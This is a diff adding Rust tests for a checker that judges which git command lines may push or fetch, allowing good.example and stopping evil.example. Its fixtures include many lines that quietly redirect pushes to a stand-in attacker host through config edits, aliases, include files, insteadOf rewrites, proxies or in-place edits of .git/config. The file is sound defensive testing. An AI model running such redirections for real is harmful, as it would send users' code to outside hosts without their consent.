@@ -109,7 +109,8 @@ impl Repo {
     /// Where the remotes that a line contacts by name lead.
     fn remotes(&self, line: &str) -> Vec<String> {
         let (policy, call, setting) = self.asked(PLAIN, line);
-        survey(&policy, &call, &setting, &Disk).remotes().map(|(_, urls)| urls.to_owned()).collect()
+        let facts = survey(&policy, &call, &setting, &Disk);
+        facts.remotes().filter(|(name, _)| name.starts_with("remote ")).map(|(_, urls)| urls.to_owned()).collect()
     }
 
     fn check(&self, policy: &str, stopped: &[&str], passed: &[&str]) {
@@ -431,6 +432,168 @@ fn remotes_are_read_from_the_settings() {
     repo.check(HOSTS, &["git fetch old"], &[]);
 }
 
+/// A remote is contacted by whatever names it, and as the line itself has left its settings.
+#[test]
+fn remotes_are_what_the_line_makes_of_them() {
+    let repo = Repo::new();
+    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
+    let everyday = [
+        "git checkout -b x && git push -u origin x",
+        "git checkout -b x && git push -u origin HEAD",
+        "git checkout -b x && git push",
+        "git switch main && git fetch",
+        "git checkout main; git push",
+        "git config user.name x && git commit -m x && git push",
+        "git config --global user.email x@y && git push",
+        "git config pull.rebase true; git config branch.main.rebase true; git fetch",
+        "git fetch --all",
+        "git remote update",
+        "git remote -v update",
+        "git remote add up https://good.example/y && git fetch up",
+        "git remote set-url origin https://good.example/y && git push",
+        "git remote rename origin up && git push up main",
+        "git branch -u origin/main && git fetch",
+        "git push --all",
+        "for b in a b; do git checkout -b $b && git push -u origin $b; done",
+        "git clone https://good.example/a/b && cd b && git fetch",
+        "git clone https://good.example/a/b.git && cd b && git push origin main && git submodule status",
+        "git clone https://good.example/a/b there && git -C there push",
+        "git worktree add ../w -b w main && cd ../w && git push origin w",
+        "mkdir -p n && cd n && git init -q && git remote add origin https://good.example/n && git push -u origin main",
+        "rm .git/index.lock; git fetch",
+        "cp -r src out && git push",
+    ];
+    repo.check(HOSTS, &[], &everyday);
+    repo.git(&["config", "remote.evil.url", "https://evil.example/x"]);
+    repo.git(&["config", "branch.other.remote", "evil"]);
+    repo.git(&["branch", "other"]);
+    repo.git(&["config", "alias.up", "push"]);
+    let named = [
+        "git push --repo=evil",
+        "git push --repo evil",
+        "git push --rep=evil",
+        "git push --repo=$R",
+        "git -C src push --repo=evil",
+        "git -c remote.pushDefault=evil push",
+        "git config remote.pushDefault evil && git push",
+        "git config branch.main.remote evil && git push",
+        "git config set branch.main.pushRemote evil; git push",
+        "git branch --set-upstream-to=evil/main && git push",
+        "git branch -u evil/main && git push",
+        "git branch n evil/main && git checkout n && git pull",
+        "git checkout -b n evil/main && git push",
+        "git remote rename origin a; git remote rename evil origin; git push",
+        "git config --rename-section remote.evil remote.origin && git push",
+        "git config --unset remote.origin.url && git push",
+        "git config --edit; git push",
+        "git remote remove origin && git push",
+        "git checkout other && git push",
+        "git switch other; git push",
+        "git switch other && git fetch",
+        "git checkout $B && git push",
+        "git checkout - && git push",
+        "git symbolic-ref HEAD refs/heads/other && git push",
+        "git fetch --all",
+        "git fetch --multiple origin evil",
+        "git remote update",
+        "git remote -v update",
+        "git archive --remote=evil HEAD",
+        "git archive --remote evil HEAD",
+        "git lfs push evil main",
+        "git lfs push https://evil.example/x main",
+        "for i in 1 2; do git push; git config branch.main.remote evil; done",
+        "git config alias.p push; git config branch.main.remote evil; git p",
+        "git config branch.main.remote evil; git up",
+        "git push; git config branch.main.remote evil; git push",
+    ];
+    repo.check(
+        HOSTS,
+        &named,
+        &["git push", "git up", "git fetch origin", "git switch main && git push", "git push && git checkout other"],
+    );
+}
+
+/// Where a repository, or a file of its settings, is not known, neither is where it goes.
+#[test]
+fn repositories_that_are_not_known_go_anywhere() {
+    let repo = Repo::new();
+    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
+    let stopped = [
+        "cd \"$X\" && git push",
+        "git -C $X push",
+        "git -C \"$(cat f)\" push origin",
+        "git -C /nowhere push origin main",
+        "git --git-dir=../other/.git push",
+        "cp -r . /tmp/writ-none && cd /tmp/writ-none && git push",
+        "git clone https://good.example/a/b && cd b && git push other",
+        "git clone https://good.example/a/b && perl -pi -e s/good/evil/ b/.git/config && cd b && git push",
+        "git clone https://good.example/a/b && cd b && git submodule update --init",
+        "perl -pi -e 's/good/evil/' .git/config && git push",
+        "awk -i inplace '{print}' .git/config; git push",
+        "ed .git/config <<< w; git push",
+        "ex -sc wq .git/config; git push",
+        "vim -es -c wq .git/config; git push",
+        "patch .git/config p; git push",
+        "tar xf c.tar -C .git; git push",
+        "unzip c.zip -d .git; git push",
+        "rsync -a e/ .git/; git push",
+        "cp -r e/. .git/; git push",
+        "mv .git g; mv e .git; git push",
+        "mv e sub && cd sub && git push",
+        "git config alias.p push; perl -pi -e s/a/b/ .git/config; git p",
+        "perl -pi -e s/a/b/ ~/.gitconfig; git push",
+    ];
+    let passed = [
+        "git push; perl -pi -e s/a/b/ .git/config",
+        "cd src && git push",
+        "perl -pi -e s/a/b/ src/a.txt && git push",
+        "git -C . push",
+        "git -C $X status",
+        "git -C $X push https://good.example/x",
+        "mkdir -p sub && cd sub && git push",
+    ];
+    repo.check(HOSTS, &stopped, &passed);
+}
+
+/// The user's settings, those of a work tree and what they include are the repository's too.
+#[test]
+fn settings_are_read_wherever_git_reads_them() {
+    let far = [
+        (".gitconfig", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n"),
+        (".gitconfig", "[remote \"origin\"] url = evil.example:x\n"),
+        (".config/git/config", "[remote]\n\tpushDefault = https://evil.example/x\n"),
+        (".gitconfig", "[branch \"main\"]\n\tpushRemote = https://evil.example/x\n"),
+        (".gitconfig", "[include]\n\tpath = there/more\n"),
+        (".gitconfig", "[includeIf \"gitdir:/\"]\n\tpath = ~/there/more\n"),
+        (".gitconfig", "[include]\n\tpath = ~other/more\n"),
+        (".git/config.worktree", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n"),
+    ];
+    for (file, text) in far {
+        let repo = Repo::new();
+        repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
+        repo.write("there/more", "[url \"https://evil.example/\"]\n\tinsteadOf = https://good.example/\n");
+        repo.check(HOSTS, &[], &["git push", "git push origin"]);
+        repo.write(file, text);
+        repo.check(HOSTS, &["git push"], &["git log"]);
+    }
+    let repo = Repo::new();
+    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
+    repo.git(&["config", "include.path", "s/i"]);
+    repo.write(".git/s/i", "[include]\n\tpath = j\n");
+    repo.check(HOSTS, &[], &["git push"]);
+    repo.write(".git/s/j", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n");
+    repo.check(HOSTS, &["git push"], &[]);
+    let many: String = (0..20).map(|at| format!("[include]\n\tpath = none{at}\n")).collect();
+    repo.write(".git/s/i", &many);
+    repo.check(HOSTS, &["git push"], &[]);
+    // Another remote for pushes leaves the usual one for what is fetched.
+    repo.write(".git/s/i", "");
+    repo.git(&["config", "remote.origin.url", "https://evil.example/x"]);
+    repo.git(&["config", "remote.good.url", "https://good.example/x"]);
+    repo.git(&["config", "branch.main.pushRemote", "good"]);
+    repo.check(HOSTS, &["git fetch", "git pull"], &["git push good"]);
+}
+
 /// What is spelled out is rewritten as a name's URL is; what a file says that the settings include counts as theirs.
 #[test]
 fn addresses_are_what_settings_make_of_them() {
@@ -463,6 +626,41 @@ fn what_is_approved_says_where_remotes_lead() {
     assert_eq!(repo.remotes("git push"), ["https://good.example/other"]);
     repo.git(&["remote", "set-url", "--push", "origin", "https://evil.example/x"]);
     assert_eq!(repo.remotes("git push"), ["https://good.example/other\nhttps://evil.example/x"]);
+}
+
+/// Whatever else git reads of where it goes is approved with it: files of settings, and the branch.
+#[test]
+fn what_is_approved_holds_for_these_settings() {
+    let repo = Repo::new();
+    let leads = || {
+        let (policy, call, setting) = repo.asked(PLAIN, "git push");
+        let facts = survey(&policy, &call, &setting, &Disk);
+        facts.remotes().map(|(name, leads)| (name.to_owned(), leads.to_owned())).collect::<Vec<_>>()
+    };
+    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
+    repo.git(&["config", "include.path", "more"]);
+    let mut known = vec![leads()];
+    assert_eq!(known, [leads()]);
+    let mut anew = |what: &str| {
+        let now = leads();
+        assert!(!known.contains(&now), "{what}");
+        known.push(now);
+    };
+    repo.git(&["config", "core.sshCommand", "ssh -v"]);
+    anew("the repository's settings");
+    repo.write(".gitconfig", "[http]\n\tproxy = http://evil.example\n");
+    anew("the user's");
+    repo.write(".config/git/config", "[push]\n\trecurseSubmodules = on-demand\n");
+    anew("the user's others");
+    repo.write(".git/config.worktree", "[core]\n\thooksPath = x\n");
+    anew("those of a work tree");
+    repo.write(".git/more", "[remote \"origin\"]\n\tmirror = true\n");
+    anew("what is included");
+    repo.write(".git/modules/a/HEAD", "ref: refs/heads/main\n");
+    repo.write(".git/modules/a/config", "[remote \"origin\"]\n\turl = https://evil.example/x\n");
+    anew("those of a submodule");
+    repo.git(&["symbolic-ref", "HEAD", "refs/heads/old"]);
+    anew("the branch");
 }
 
 #[test]
